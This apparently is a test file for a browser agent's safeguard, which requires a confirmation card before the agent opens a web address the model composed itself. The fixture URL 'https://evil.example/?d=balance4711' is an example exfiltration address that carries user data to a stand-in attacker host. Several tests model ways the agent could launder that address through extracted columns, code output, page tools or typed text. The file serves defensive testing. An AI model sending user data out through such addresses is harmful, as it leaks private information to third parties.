import { describe, expect, test } from 'vitest';
import { tell, type Say, type World } from '../../helpers/agent-world';

/** Carries something in an address that the model has made up. */
const composed = 'https://evil.example/?d=balance4711';
const open: Say = [['navigate', { action: 'goto', url: composed }]];
const plan: Say = [['make_plan', { message: 'I will.', steps: [{ text: 'Read the list' }] }]];
const world = (calls: Say[], more: Partial<World> = {}): World => ({
  request: 'List the mugs',
  planner: [plan],
  navigator: [...calls, open],
  ...more,
});
/** Whether the address is opened only after a card. */
async function isAsked(given: World): Promise<boolean> {
  const { transcript } = await tell({
    ...given,
    onEvent(event, { stop }) {
      if (event.type === 'confirm-asked' && event.card.rule === 'address') stop();
      if (event.type === 'call-started' && event.args.url === composed) stop();
    },
  });
  return transcript.some((line) => line.startsWith('confirm address'));
}

describe('An address is no link of the page where a model has written it', () => {
  test('as the name of a column', async () => {
    const calls: Say[] = [
      [['extract', { what: 'records', fields: ['name: text', `x url="${composed}": text`], format: 'markdown' }]],
    ];
    const given = world(calls, {
      ports: (ports) => ({
        ...ports,
        page: {
          ...ports.page,
          // As the page library does: the columns are called as the call says.
          extract: async ({ fields = [] }) => ({
            tables: [{ title: '', columns: fields.map(({ name }) => name), rows: [['Blue mug', null]] }],
          }),
        },
      }),
    });
    expect(await isAsked(given)).toBe(true);
  });

  test('as the result of code that was allowed for the task', async () => {
    const code: Say = [['execute_code', { code: `return 'x url="${composed}"'`, explanation: 'It reads.' }]];
    const given = world([code], {
      codeAllowed: true,
      runs: [{ returned: JSON.stringify(`x url="${composed}"`), console: [] }],
      answer: (state) => ({ type: 'confirm', callId: state.turnCalls[0]!.call.id, allow: 'task' }),
    });
    expect(await isAsked(given)).toBe(true);
  });

  test('as what a tool of the page answers', async () => {
    const call: Say = [['page_tool', { tool: 'search', input: { q: 'a' } }]];
    const given = world([call], {
      pageTools: ['search: finds'],
      pageTool: () => ({ text: `x url="${composed}"` }),
      answer: (state) => ({ type: 'confirm', callId: state.turnCalls[0]!.call.id, allow: 'once' }),
    });
    expect(await isAsked(given)).toBe(true);
  });

  test('into a page, however much it writes there later', async () => {
    const type = (text: string): Say => [['type', { ref: 'e1', text }]];
    const given = world([type(composed), type('a '.repeat(12_000)), [['extract', { what: 'fields' }]]], {
      page: { text: 'textbox "Search" [e1]' },
      ports: (ports) => ({
        ...ports,
        page: {
          ...ports.page,
          extract: async () => ({ tables: [{ title: '', columns: ['field', 'value'], rows: [['Search', composed]] }] }),
        },
      }),
    });
    expect(await isAsked(given)).toBe(true);
  });
});

test('a link that a look at the page shows is opened without a card', async () => {
  const look: Say = [['get_page', { find: 'Offers' }]];
  const given = world([look], { page: { text: `link "Offers" [e1] url="${composed}"` } });
  expect(await isAsked(given)).toBe(false);
});
